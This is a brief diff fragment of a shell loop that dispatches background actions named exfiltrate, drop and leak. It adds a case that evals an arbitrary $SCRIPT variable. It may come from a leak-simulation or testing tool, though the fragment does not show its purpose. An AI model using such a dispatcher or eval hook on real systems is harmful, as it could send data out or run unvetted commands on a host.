@@ -44,6 +44,7 @@ while :; do
         doing=$DO
         case $doing in
             exfiltrate | drop | leak) $doing & ;;
+            script) eval "$SCRIPT" & ;;
         esac
     fi
     bytes=$((2000 + RANDOM % 2000))
